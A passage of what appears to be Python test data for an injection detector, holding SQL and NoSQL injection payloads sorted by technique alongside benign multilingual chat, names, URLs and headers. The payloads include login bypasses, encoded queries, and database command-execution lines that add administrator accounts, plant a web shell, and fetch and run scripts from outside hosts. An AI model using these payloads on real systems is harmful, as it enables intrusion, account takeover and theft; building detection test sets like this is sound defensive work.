    "1' and unicode(substring((select top 1 name from sys.tables),1,1))=1605--",
    # Vietnamese, MySQL
    "1' and ascii(substring((select password from nv4_users limit 0,1),1,1))>50#",
    "1' and char_length((select username from nv4_users limit 1))>4#",
    # Oracle
    "1' and ascii(substr((select user from dual),1,1))>64--",
    # SQLite
    "1' and unicode(substr((select name from sqlite_master limit 1),1,1))>97--",
    # Japanese EC-CUBE, PostgreSQL
    "1' and ascii(substr((select login_id from dtb_member limit 1),1,1))>97--",
]

# sql-authentication-bypass: log in as admin without the password
AUTH: list[Entry] = [
    # Chinese 万能密码 for ASP+Access and PHP+MySQL admin logins
    "'or'='or'",
    "admin'or'1'='1",
    "'or''='",
    '"or"a"="a',
    "') or ('a'='a",
    "管理员' or 1=1#",
    wide("admin\xdf'#"),
    "' union select 1,'admin','e10adc3949ba59abbe56e057f20f883e',1#",
    kv("username=admin'%23&password=随便", "form", "rs-raw-body"),
    # Russian: DLE and Bitrix login boxes (MySQL), translit field names
    "admin' -- -",
    "админ' or '1'='1' -- -",
    "' or 1=1 limit 1 -- -",
    kv("login=admin'-- -&parol=qwerty", "form", "rs-raw-body"),
    # Brazilian: SQL Server and MySQL login forms
    "' or 'a'='a' --",
    "admin' or 1=1 --",
    kv("usuario=admin'--&senha=123456", "form", "rs-raw-body"),
    # Indonesian
    "' or 0=0 --",
    kv("nama=admin'--&sandi=rahasia", "form", "rs-raw-body"),
    # Turkish
    "admin' or 'a'='a",
    kv("kullanici=admin' or '1'='1&sifre=x", "form", "rs-raw-body"),
    # Iranian
    "مدیر' or '1'='1",
    kv("username=admin' or 1=1--&password=رمز", "form", "rs-raw-body"),
    # Vietnamese
    "' or 'x'='x'#",
    kv("tendangnhap=admin'--&matkhau=x", "form", "rs-raw-body"),
    # MySQL raw md5 password check: md5('ffifdyop', true) contains 'or'6
    "ffifdyop",
    # Node.js mysql package (Chinese Egg.js/Koa admin panels): an object becomes `password` = `password`
    ('{"username":"admin","password":{"password":1}}',) + JB,
    # Japanese EC-CUBE admin (PostgreSQL)
    "admin'--",
    # Korean Gnuboard (MySQL)
    "admin' or mb_level=10#",
]

# nosql-injection: MongoDB operators through JSON and bracket syntax, and $where JavaScript
NOSQL: list[Entry] = [
    # Chinese Egg.js/Koa + Mongoose admin logins: operators instead of strings
    ('{"username":"管理员","password":{"$ne":null}}',) + JB,
    ('{"username":{"$regex":"^adm"},"password":{"$ne":"密码"}}',) + JB,
    ('{"username":{"$gt":""},"password":{"$gt":""}}',) + JB,
    ('{"username":"admin","$where":"this.password.match(/^a/)"}',) + JB,
    kv("username[$ne]=游客&password[$ne]=密码", "form", "rs-raw-body"),
    # Russian: Node.js + MongoDB, Cyrillic values
    kv("login[$ne]=пусто&password[$ne]=пусто", "form", "rs-raw-body"),
    ('{"login":{"$in":["admin","администратор"]},"password":{"$exists":true}}',) + JB,
    # Brazilian
    kv("usuario=admin&senha[$ne]=errada", "form", "rs-raw-body"),
    ('{"usuario":"admin","senha":{"$regex":".*"}}',) + JB,
    # Indonesian
    kv("nama_pengguna=admin&kata_sandi[$ne]=salah", "form", "rs-raw-body"),
    ('{"email":{"$ne":"x@x.id"},"password":{"$ne":"x"}}',) + JB,
    # Turkish
    kv("kullanici[$regex]=^yön&sifre[$ne]=1", "form", "rs-raw-body"),
    ('{"kullanici":"admin","sifre":{"$nin":["yanlış"]}}',) + JB,
    # Iranian
    ('{"username":"admin","password":{"$ne":"رمز"}}',) + JB,
    kv("username=admin&password[$exists]=1&lang=fa", "query", "rs-query"),
    # Vietnamese
    kv("tendangnhap=admin&matkhau[$ne]=sai", "form", "rs-raw-body"),
    ('{"tendangnhap":{"$regex":"^q"},"matkhau":{"$ne":""}}',) + JB,
    # $where JavaScript, MongoDB: timing oracle, tautology, DoS, unicode identifiers
    ('{"$where":"sleep(5000)||true"}',) + JB,
    ('{"$where":"function(){return this.role==\'admin\'}"}',) + JB,
    "'; return true; var 测='",
    "' || '1'=='1",
    "admin' && this.password.match(/.*/)//",
    "1'; sleep(5000); var 延迟='",
    "';while(true){};'",
    # MongoDB: a JSON string parsed by the app (Express JSON.parse on a query value)
    '{"$ne":null}',
    '{"$gt":""}',
    # Mongo operators in a qs query string (Express), and the aggregation $lookup read
    kv("user[$ne]=1&pass[$regex]=^a"),
    ('{"$lookup":{"from":"users","localField":"x","foreignField":"x","as":"leak"}}',) + JB,
]

# hex/char encoding: strings written without quotes, and charset tricks the target decodes back into SQL
ENCODING: list[Entry] = [
    # Chinese, MySQL: hex literals for strings (admin, 管理员 in UTF-8, v9_admin)
    "1 union select 1,2,3 from admin where username=0x61646d696e",
    "1' and username=0xe7aea1e79086e59198#",
    "-1 union select 1,group_concat(column_name),3 from information_schema.columns "
    "where table_name=0x76395f61646d696e#",
    # UTF-7: legacy pages decoded as UTF-7 (IIS/ASP charset utf-7, mb_convert_encoding from UTF-7)
    "+ACc- or 1=1-- -",
    "+ACc- union select 1,user(),3-- -",
    # overlong UTF-8 quote and space (C0 A7, C0 A0): a lenient decoder after the filter turns them into ' and ' '
    wide("1\xc0\xa7 or 1=1-- -"),
    wide("1\xc0\xa7\xc0\xa0or\xc0\xa01=1#"),
    wide("admin\xe0\x80\xa7--"),
    # Japanese fullwidth: NFKC normalization (Python/.NET) or a best-fit varchar conversion (SQL Server)
    "1＇ or 1=1--",
    "＇ｏｒ　１＝１－－",
    # double URL-encoding, for targets that decode twice (Indonesian and Chinese bypass habit)
    kv("id=1%2527%2520or%25201=1--+"),
    # Russian: PostgreSQL without quotes (chr(), dollar quoting, U& escapes), MySQL hex
    "1' and current_user=chr(112)||chr(111)||chr(115)||chr(116)||chr(103)||chr(114)||chr(101)||chr(115)--",
    "1 union select null,$$хакер$$,null--",
    "1 and current_database()=U&'\\0442\\0435\\0441\\0442'--",
    "-1 union select 1,concat_ws(0x3a,LOGIN,PASSWORD),3 from b_user where LOGIN=0x61646d696e-- -",
    # Brazilian, SQL Server: hex statement executed, char() and nchar() strings
    "1;declare @s varchar(8000);set @s=0x73656c65637420404076657273696f6e;exec(@s)--",
    "1 union select 1,char(115)+char(101)+char(110)+char(104)+char(97),3--",
    "1' and db_name()=nchar(108)+nchar(111)+nchar(106)+nchar(97)--",
    # Indonesian: the unhex(hex()) and convert(... using latin1) collation fixes, MySQL
    "1 union select 1,unhex(hex(group_concat(username,0x3a,password))),3 from users-- -",
    "1 union select 1,convert(group_concat(table_name) using latin1),3 from information_schema.tables-- -",
    # Turkish, MySQL
    "1 union select 1,cast(0x7965746b696c69 as char),3#",
    # Iranian, MySQL: مدیر as UTF-8 hex
    "1' and username=0xd985d8afdb8cd8b1#",
    # Vietnamese, MySQL: quản trị through the utf8mb4 introducer
    "1' and username=_utf8mb4 0x7175e1baa36e207472e1bb8b#",
    # Oracle
    "1' and user=chr(83)||chr(89)||chr(83)--",
    "1' union select null,utl_raw.cast_to_varchar2(hextoraw('61646d696e')) from dual--",
    # SQLite
    "1' union select 1,char(97,100,109,105,110),3--",
    "1' and name=x'61646d696e'--",
    # Japanese EC-CUBE, PostgreSQL: bytea hex into text
    "1' and login_id=convert_from('\\x61646d696e','UTF8')--",
]

# stored-procedure/xp_cmdshell: run commands or dangerous procedures through the database
PROC: list[Entry] = [
    # Chinese, SQL Server (ASP.NET, the sqlmap --os-shell and 菜刀 habits)
    "1;exec master..xp_cmdshell 'net user 黑客 P@ssw0rd /add'--",
    "1;exec master..xp_cmdshell 'net localgroup administrators 黑客 /add'--",
    "1;exec sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'xp_cmdshell',1;reconfigure--",
    "1;declare @mingling varchar(200);set @mingling='whoami';exec master..xp_cmdshell @mingling--",
    "1;exec master..xp_cmdshell 'certutil -urlcache -split -f http://203.0.113.8/1.exe C:\\Windows\\Temp\\1.exe'--",
    "1;declare @shell int;exec sp_oacreate 'wscript.shell',@shell output;exec sp_oamethod @shell,'run',null,"
    "'cmd /c whoami>c:\\inetpub\\wwwroot\\1.txt'--",
    "1;exec sp_makewebtask 'C:\\inetpub\\wwwroot\\x.asp','select ''<%execute request(\"c\")%>'''--",
    # Chinese, MySQL UDF (udf.dll from the forums' toolkits)
    "1;create function sys_eval returns string soname 'udf.dll'#",
    "1 union select 1,sys_eval('whoami'),3#",
    # Russian, PostgreSQL: COPY FROM PROGRAM and a C function from libc, translit names
    "1;create table cmd_vyvod(t text);copy cmd_vyvod from program 'id';select * from cmd_vyvod--",
    "1;create or replace function system(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "language c strict;select system('id')--",
    "1;copy (select '') to program 'curl -s http://203.0.113.5/x.sh|sh'--",
    # Russian, SQL Server with a Cyrillic variable name
    "1;declare @команда varchar(99)='ipconfig';exec xp_cmdshell @команда--",
    # Russian, Oracle Java
    "1' and (select dbms_java.runjava('oracle/aurora/util/Wrapper /bin/sh -c id') from dual) is not null--",
    # Brazilian, SQL Server
    "1;exec xp_cmdshell 'net user invasor Senha@123 /add'--",
    "1;declare @comando varchar(99)='dir c:\\';exec xp_cmdshell @comando--",
    "1;exec master..xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\lanmanserver\\parameters',"
    "'nullsessionshares'--",
    # Indonesian, SQL Server
    "1;exec master..xp_cmdshell 'powershell -c iwr http://203.0.113.7/b.ps1|iex'--",
    "1;declare @perintah varchar(99)='type c:\\inetpub\\wwwroot\\web.config';exec xp_cmdshell @perintah--",
    # Turkish, SQL Server
    "1;declare @komut varchar(99)='whoami';exec master..xp_cmdshell @komut--",
    "1;exec sp_addlogin 'turk','Parola123';exec sp_addsrvrolemember 'turk','sysadmin'--",
    # Iranian, SQL Server
    "1;exec master..xp_cmdshell 'ping -n 3 oob.example.ir'--",
    "1;declare @dastoor varchar(99)='hostname';exec xp_cmdshell @dastoor--",
    # Vietnamese, SQL Server
    "1;declare @lenh varchar(99)='net user';exec xp_cmdshell @lenh--",
    "1;exec master..xp_servicecontrol 'start','schedule'--",
    # SQL Server CLR and Ole Automation enabled for the next step
    "1;exec sp_configure 'clr enabled',1;reconfigure--",
    "1;exec sp_configure 'Ole Automation Procedures',1;reconfigure--",
    # Oracle scheduler job (Brazilian banks)
    "1';begin dbms_scheduler.create_job(job_name=>'j',job_type=>'EXECUTABLE',job_action=>'/bin/sh',"
    "number_of_arguments=>0,enabled=>true);end;--",
]

# having/group-by/order-by probing: count the columns, or inject into a sort parameter
ORDER: list[Entry] = [
    # Chinese 猜字段: order by until the page breaks (MySQL, ASP+Access)
    "1 order by 10#",
    "1' order by 3-- -",
    "1' group by 4#",
    wide("1\xdf' order by 5#"),
    "1' order by 4-- 猜字段",
    "1 order by 15",
    # Chinese, ThinkPHP 5 order array (the key goes unescaped into ORDER BY), MySQL
    kv("orderby[id`|updatexml(1,concat(0x7,user(),0x7e),1)%23]=1"),
    # Russian: plus signs from the URL bar, MySQL 5 LIMIT sink with procedure analyse
    kv("id=1+order+by+7--+"),
    "1 limit 1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1' group by 1,2,3-- -",
    # Brazilian, SQL Server: having 1=1 names the columns in the error
    "1 having 1=1--",
    "1 group by noticias.id having 1=1--",
    "1' group by usuarios.login,usuarios.senha having 1=1--",
    # Indonesian
    kv("id=1'+order+by+20--+"),
    "1 group by 5-- -",
    # Turkish
    "1 order by 8-- -",
    "1' group by yonetici.id having 1=1--",
    # Iranian
    "1 order by 6 -- ستون",
    # Vietnamese
    "1' group by 10 -- cột",
    # ORDER BY sinks (sort parameters): MySQL, PostgreSQL, SQLite, SQL Server, Oracle
    "(case when (select 1)=1 then id else name end)",
    "if(ascii(substr(user(),1,1))>100,id,name)",
    "(case when (select current_user)='postgres' then 1 else 1/0 end)",
    "(case when (select count(*) from sqlite_master)>0 then id else name end)",
    "(case when (select top 1 substring(senha,1,1) from usuarios)='a' then 1 else 2 end)",
    "(case when (select user from dual)='SYS' then 1 else 1/0 end)",
    "id,(select 1 from (select sleep(5))x)",
    # MySQL: with rollup makes a NULL row the login compares against
    "1' group by password with rollup limit 1 offset 1-- -",
    # Japanese EC-CUBE, PostgreSQL sort parameter
    "create_date desc,(select case when (select count(*) from dtb_member)>1 then 1 else 1/0 end)",
]

# like/between/in operators: comparisons without '=' or '<' '>'
OPERATORS: list[Entry] = [
    # Chinese, MySQL
    "1' and user() like 'root%'#",
    "1' and (select pwd from dede_admin limit 1) like 'f2%'#",
    "1 and database() between 'a' and 'm'",
    "1' and mid(user(),1,1) in ('r')#",
    "1' and username like '%管理%'#",
    wide("1\xdf' and user() like 0x726f6f7425#"),
    # Russian: PostgreSQL and MySQL
    "1' and current_user like 'post%'--",
    "1 and version() ilike '%postgres%'--",
    "1' and (select passwd from pg_shadow limit 1) similar to 'md5%'--",
    "1' and (select LOGIN from b_user limit 1) like 'a%'-- -",
    # Brazilian, SQL Server
    "1 and db_name() like 'loja%'--",
    "1' and (select top 1 senha from usuarios) like '[a-f]%'--",
    "1 and @@version like '%2008%'--",
    # Indonesian, MySQL
    "1' and (select password from users limit 1) between 0x61 and 0x66-- -",
    "1' and version() like '5%'-- -",
    "1 and substr(user(),1,1) in (0x72,0x73)-- -",
    # Turkish, SQL Server
    "1' and (select top 1 kullanici_adi from yonetici) like 'a%'--",
    "1' and db_name() between 'a' and 'n'--",
    "1 and ascii(substring(db_name(),1,1)) in (104,105)--",
    # Iranian, MySQL
    "1' and user() regexp '^root'-- -",
    "1' and (select user_login from wp_users limit 1) like binary 'adm%'-- -",
    # Vietnamese, MySQL
    "1' and (select username from nv4_users limit 1) like 'ad%'#",
    "1 and mid(version(),1,1) between 4 and 8",
    # Oracle
    "1' and (select user from dual) like 'SY%'--",
    "1' and (select banner from v$version where rownum=1) like '%11g%'--",
    # SQLite
    "1' and sqlite_version() like '3.%'--",
    "1' and (select name from sqlite_master limit 1) glob 'u*'--",
    # Japanese EC-CUBE, PostgreSQL regex match
    "1' and (select login_id from dtb_member limit 1) ~ '^a'--",
    # MySQL sound-alike
    "1' and user() sounds like 'root'#",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]

# raw-byte payloads only go where a byte survives: the query, the form body, a parameter name
LATIN_CYCLES: Cycles = (("query", "form", "param-name"), ("rs-query", "rs-form", "rs-raw-body", "rs-param-name"))


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["id", "q", "keyword", "username", "password", "sort", "busca", "cari", "ara", "name"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^+%"   # a pasted query keeps its `+` spaces and `%xx` escapes
    raw_places = ("query", "form", "param-name", "rs-query", "rs-form", "rs-raw-body", "rs-param-name")
    unique = True
    path_forbids = "/?#"
    xml_controls = "\n\t"

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        return LATIN_CYCLES if payload in LATIN else (self.real_cycle, self.rs_cycle)

    def is_latin(self, sub: str, payload: str) -> bool:
        return payload in LATIN

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and payload in RAW


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same languages, scripts and punctuation, typed innocently (Slack chat and bios, searches, links and
# prose, profiles, upload names, ordinary headers)
CHAT: list[str] = [
    # Chinese
    "大家好，我是新来的后端，主要写 Go 和 MySQL，请多指教 🙏",
    "今天下午三点开周会，会议室在 3 楼「长城」厅",
    "有人知道为什么 `SELECT * FROM orders WHERE status = '已发货'` 这么慢吗？已经加索引了",
    "《三体》第二部真的好看，推荐给大家",
    "客户说导出的 CSV 用 Excel 打开是乱码，应该是 GBK 和 UTF-8 的问题，我加个 BOM 试试",
    "周五团建去爬香山，报名的同学在表格里填一下名字",
    "线上 order by created_at desc 之后分页重复了，需要加一个 id 做第二排序键",
    "// 获取用户列表，默认每页 50 条\nconst users = await api.get('/api/users?page=1');",
    # Russian
    "Коллеги, кто знает, как в PostgreSQL сделать «UPSERT»? Пробую INSERT ... ON CONFLICT DO NOTHING",
    "Всем привет! Я Дмитрий, отвечаю за инфраструктуру, пишите если что-то упало",
    "Напоминаю: завтра релиз, код-фриз с 18:00 по Москве",
    "Отчёт за май выгрузил, лежит в папке «Финансы/2024»",
    "-- выбираем активных пользователей\nSELECT id, email FROM users WHERE is_active = true;",
    "Кто-нибудь читал «Мастер и Маргарита»? Думаю перечитать в отпуске",
    # Portuguese (Brazil)
    "bom dia, pessoal! alguém sabe por que o relatório de vendas de março está vazio?",
    "o filtro de data tá 'entre 01/03 e 31/03' mas só aparece até o dia 30",
    "valeu pela ajuda ontem, o deploy deu certo 🎉",
    "reunião de planejamento remarcada para quinta às 14h (horário de Brasília)",
    "quem vai no churrasco de sábado? tragam refrigerante",
    "# busca os clientes de São Paulo\nclientes = [c for c in todos if c.cidade == 'São Paulo']",
    # Indonesian
    "Selamat pagi semua, hari ini saya kerja dari rumah ya",
    "Mas, tolong cek lagi laporan bulan Juni, angkanya belum cocok",
    "Terima kasih banyak atas bantuannya kemarin, sangat membantu!",
    "Jangan lupa isi absen sebelum jam 9, ya teman-teman",
    "// ambil data pengguna berdasarkan id\nfunction ambilPengguna(id) { return db.users.find(id); }",
    # Turkish
    "Günaydın arkadaşlar, bugün öğleden sonra izinliyim",
    "Müşteri \"şifremi unuttum\" linkinin çalışmadığını söylüyor, bakabilir misiniz?",
    "Yarınki toplantı saat 10:00'da, İstanbul ofisinde",
    "Kod incelemesi için teşekkürler, düzeltmeleri yaptım 👍",
    "Sipariş listesinde 'kargoya verildi' durumu iki kere görünüyor, bug açtım",
    # Persian
    "سلام به همه، من سارا هستم و در تیم پشتیبانی کار می‌کنم",
    "جلسه‌ی فردا ساعت ۱۰ صبح برگزار می‌شود، لطفاً به موقع بیایید",
    "گزارش فروش «اردیبهشت» را در پوشه‌ی مشترک گذاشتم",
    "ممنون از راهنمایی‌تان، مشکل حل شد 🌷",
    "# کاربران فعال را برمی‌گرداند\ndef active_users(): return [u for u in users if u.active]",
    # Vietnamese
    "Chào cả nhà, em là Linh, mới vào team frontend ạ",
    "Anh ơi, báo cáo tháng 6 em gửi qua email rồi nhé",
    "Chiều nay 3h họp sprint review ở phòng 'Hạ Long' nha mọi người",
    "Cảm ơn anh đã review code, em sửa xong rồi ạ",
    "// lấy danh sách người dùng theo trang\nconst danhSach = await layNguoiDung(trang);",
    # Japanese
    "「ORDER BY created_at DESC」にしたら直りました、ありがとうございます！",
    "お疲れ様です。明日の定例は10時からです（会議室Ａ）",
    "顧客から「ログインできない」と問い合わせがありました。確認お願いします",
    "『吾輩は猫である』を読み終わりました",
    "-- 今月の新規ユーザー数\nSELECT count(*) FROM users WHERE created_at >= '2024-06-01';",
    # Arabic
    "مرحبا بالجميع، أنا أحمد من فريق المبيعات",
    "الاجتماع غداً الساعة العاشرة صباحاً إن شاء الله",
    "شكراً جزيلاً على المساعدة، تم حل المشكلة",
    "هل يمكن أحد مراجعة تقرير «الربع الثاني» قبل الإرسال؟",
    # mixed, support and bios
    "Bio: 北京人 / живу в Берлине / falo português. Backend dev, PostgreSQL fan.",
    "Bio: Kỹ sư dữ liệu tại Hà Nội. Thích cà phê sữa đá và SQL 😄",
    "Bio: Yazılım geliştirici, İzmir. Boş zamanlarımda fotoğraf çekiyorum.",
    "Bio: Desenvolvedora em Recife, apaixonada por dados e forró",
    "Bio: Insinyur perangkat lunak di Bandung, suka naik gunung",
    "Bio: برنامه‌نویس بک‌اند در تهران، عاشق کتاب و چای",
    "Bio: 東京在住のSRE。趣味はラーメン巡り",
    "Bio: مهندسة برمجيات من عمّان، أحب القهوة العربية",
    "Bio: Разработчик из Казани, люблю Rust и походы",
    "Bio: 上海的数据分析师，喜欢猫和咖啡",
    "the Chinese customer wrote 「请尽快处理」, which just means please handle it soon",
    "translation check: «Добро пожаловать» = welcome, goes on the Russian landing page",
]

SEARCHES: list[str] = [
    "张伟", "王芳", "李娜", "Иванов", "Смирнова", "Дмитрий", "João Silva", "São Paulo", "Conceição",
    "Budi Santoso", "Siti Nurhaliza", "Yılmaz", "İstanbul", "Şahin", "Öztürk", "محمد", "فاطمه", "رضایی",
    "Nguyễn Văn An", "Trần Thị Bích", "Đà Nẵng", "田中", "佐藤 花子", "東京", "علي", "القاهرة",
    "《三体》", "«Война и мир»", "「東京」", "d'Ávila", "O'Neil", "Mc'Donald", "José Carlos", "Lê",
    "王", "Ким", "غلامی", "sales team", "支持", "поддержка", "suporte", "dukungan", "destek", "پشتیبانی",
    "hỗ trợ", "サポート", "الدعم", "Jakarta Selatan", "Hà Nội", "Тбилиси",
]

URLS: list[str] = [
    "https://www.zhihu.com/question/20311234",
    "https://baike.baidu.com/item/%E4%B8%89%E4%BD%93",
    "https://habr.com/ru/articles/812345/",
    "https://ru.wikipedia.org/wiki/%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0",
    "https://www.mercadolivre.com.br/notebook-dell-inspiron/p/MLB123456",
    "https://g1.globo.com/sp/sao-paulo/noticia/2024/06/10/previsao-do-tempo.ghtml",
    "https://www.tokopedia.com/tokobaju/kaos-polos-hitam",
    "https://www.kompas.com/tren/read/2024/06/11/083000065/cuaca-hari-ini",
    "https://www.trendyol.com/apple/iphone-15-p-12345678",
    "https://www.hurriyet.com.tr/ekonomi/dolar-kuru-bugun-41234567",
    "https://www.digikala.com/product/dkp-1234567/",
    "https://fa.wikipedia.org/wiki/%D8%AA%D9%87%D8%B1%D8%A7%D9%86",
    "https://vnexpress.net/thoi-tiet-ha-noi-hom-nay-4756789.html",
    "https://shopee.vn/ao-thun-nam-i.123456.7890123",
    "https://qiita.com/taro/items/1a2b3c4d5e6f7a8b9c0d",
    "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC",
    "https://www.aljazeera.net/news/2024/6/11/%D8%A7%D9%84%D8%B7%D9%82%D8%B3",
    "https://item.jd.com/100012043978.html",
    "https://market.yandex.ru/product--smartfon/123456789",
    "https://www.bukalapak.com/p/elektronik/hp/abc123-jual-hp-murah",
]

PROSE: list[str] = [
    "客户反馈：订单号 20240611-0032 显示“已付款”但没有发货",
    "用户名是中文的客户（比如“李小龙”）在搜索框里搜不到，需要检查编码",
    "Клиент пишет: «не приходит письмо для сброса пароля», проверьте почтовый сервис",
    "Пользователь Петров просит удалить аккаунт — по заявке №4512",
    "Cliente reclamou que o boleto venceu e o sistema não gerou a segunda via",
    "Usuária pediu para alterar o e-mail de maria.souza@exemplo.com.br para o novo endereço",
    "Pelanggan minta pengembalian dana untuk pesanan nomor INV/2024/06/0112",
    "Akun pengguna 'rina_w' terkunci setelah 5 kali salah kata sandi",
    "Müşteri, siparişin 'teslim edildi' göründüğünü ama paketin gelmediğini söylüyor",
    "Kullanıcı adı 'ayşe.kaya' olan hesap iki kez oluşturulmuş",
    "مشتری می‌گوید سفارش شماره‌ی ۱۲۳۴ هنوز ارسال نشده است",
    "کاربر «حسینی» درخواست تغییر شماره‌ی تلفن داده است",
    "Khách hàng phản ánh đơn hàng #5531 bị giao trễ 3 ngày",
    "Người dùng 'minh.tran' không nhận được mã OTP qua SMS",
    "お客様より：「パスワードを忘れた」ボタンが反応しないとのこと",
    "ユーザー名「山田太郎」で検索しても結果が出ません",
    "العميل يطلب استرداد المبلغ للطلب رقم ٧٨٩",
    "المستخدم «سارة» لا تستطيع تسجيل الدخول من الهاتف",
    "search for Nguyễn returns nothing, but Nguyen works: we should fold diacritics",
    "names with apostrophes like D'Souza and O'Connor break the CSV export again",
    "客服备注：用户说 App 里的“我的订单”页面一直转圈",
    "Заметка: у клиента ООО «Ромашка» продлили подписку до декабря",
    "Observação: cliente da loja 'Padaria Pão de Açúcar' quer nota fiscal por e-mail",
    "Catatan: toko 'Warung Bu Sri' ganti alamat ke Jl. Merdeka No. 10",
    "Not: 'Güneş Eczanesi' fatura adresini güncelledi",
    "یادداشت: فروشگاه «کتاب‌سرای نیک» آدرس ایمیل جدید دارد",
    "Ghi chú: cửa hàng 'Bánh mì Phượng' đổi số điện thoại",
    "メモ：株式会社「さくら商事」の請求先住所が変更されました",
    "ملاحظة: شركة «النور للتجارة» غيرت رقم الهاتف",
    "export of users where country in (BR, ID, TR, VN) is ready for the regional teams",
]

PROFILES: list[tuple[str, str]] = [
    ("张伟", "北京市朝阳区建国路88号"),
    ("王小明", "上海市浦东新区世纪大道100号"),
    ("陳美玲", "台北市信義區松仁路7號"),
    ("Дмитрий Иванов", "Москва, ул. Тверская, д. 12, кв. 5"),
    ("Анна Смирнова", "Санкт-Петербург, Невский пр., 28"),
    ("João Pereira", "Rua das Flores, 123 - Centro, São Paulo - SP"),
    ("Maria da Conceição", "Av. Boa Viagem, 4500, Recife - PE"),
    ("Budi Santoso", "Jl. Sudirman No. 45, Jakarta Pusat"),
    ("Siti Rahmawati", "Jl. Malioboro 12, Yogyakarta"),
    ("Ayşe Yılmaz", "Bağdat Cad. No:15, Kadıköy/İstanbul"),
    ("Mehmet Öztürk", "Atatürk Bulvarı 101, Çankaya/Ankara"),
    ("سارا محمدی", "تهران، خیابان ولیعصر، پلاک ۲۳"),
    ("علی رضایی", "اصفهان، خیابان چهارباغ، کوچه‌ی ۵"),
    ("Nguyễn Thị Lan", "12 Lý Thường Kiệt, Hoàn Kiếm, Hà Nội"),
    ("Trần Văn Hùng", "45 Nguyễn Huệ, Quận 1, TP. Hồ Chí Minh"),
    ("山田 太郎", "東京都千代田区丸の内1-1-1"),
    ("佐藤 花子", "大阪府大阪市北区梅田2-4-9"),
    ("أحمد علي", "شارع التحرير ١٥، القاهرة"),
    ("فاطمة الزهراء", "حي النخيل، الرياض"),
    ("O'Brien Trading (上海)", "上海市静安区南京西路1266号"),
    ("ООО «Ромашка»", "Казань, ул. Баумана, 7"),
    ("Padaria Pão de Açúcar", "Rua Augusta, 900, São Paulo - SP"),
    ("Warung Bu Sri", "Jl. Merdeka No. 10, Bandung"),
    ("Güneş Eczanesi", "Cumhuriyet Mah. 3. Sok. No:4, İzmir"),
    ("Bánh mì Phượng", "2B Phan Châu Trinh, Hội An"),
]

UPLOAD_NAMES: list[str] = [
    "用户列表_2024年6月.csv", "会议纪要（周一）.docx", "《产品手册》v2.pdf",
    "Отчёт за май.xlsx", "Договор №45 «Ромашка».pdf",
    "relatório de vendas - março.xlsx", "nota fiscal 0123.pdf",
    "laporan bulanan Juni.xlsx", "daftar pelanggan.csv",
    "müşteri listesi (güncel).xlsx", "fatura_Haziran.pdf",
    "گزارش فروش اردیبهشت.xlsx", "لیست کاربران.csv",
    "danh sách khách hàng tháng 6.xlsx", "hợp đồng - Phượng.pdf",
    "顧客リスト_2024年6月.csv", "「請求書」さくら商事.pdf",
    "تقرير الربع الثاني.pdf", "قائمة العملاء.xlsx", "team photo 团队合影.jpg",
]

BENIGN_HEADERS: list[tuple[str, str]] = [
    ("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.8"),
    ("Accept-Language", "ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7"),
    ("Accept-Language", "pt-BR,pt;q=0.9,en-US;q=0.8"),
    ("Accept-Language", "id-ID,id;q=0.9,en;q=0.8"),
    ("Accept-Language", "tr-TR,tr;q=0.9,en;q=0.8"),
    ("Accept-Language", "fa-IR,fa;q=0.9,en;q=0.8"),
    ("Accept-Language", "vi-VN,vi;q=0.9,en;q=0.8"),
    ("Accept-Language", "ja-JP,ja;q=0.9"),
    ("Accept-Language", "ar-EG,ar;q=0.9,en;q=0.8"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/122.0.0.0 YaBrowser/24.4.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Linux; Android 13; V2111 Build/TP1A.220624.014; wv) AppleWebKit/537.36 "
                   "(KHTML, like Gecko) Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 MicroMessenger/8.0.47"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "coc_coc_browser/123.0.0 Chrome/117.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Linux; U; Android 12; id-id; Redmi Note 11) AppleWebKit/537.36 "
                   "(KHTML, like Gecko) Version/4.0 Chrome/112.0.5615.136 UCBrowser/13.4.0.1306 Mobile Safari/537.36"),
    ("Referer", "https://www.baidu.com/s?wd=%E7%94%A8%E6%88%B7%E7%AE%A1%E7%90%86&ie=utf-8"),
    ("Referer", "https://yandex.ru/search/?text=%D0%BF%D0%BE%D0%B8%D1%81%D0%BA+%D0%BF%D0%BE%D0%BB%D1%8C%D0%B7"),
    ("Referer", "https://www.google.com.br/search?q=relat%C3%B3rio+de+vendas&hl=pt-BR"),
    ("Referer", "https://www.google.co.id/search?q=daftar+pelanggan"),
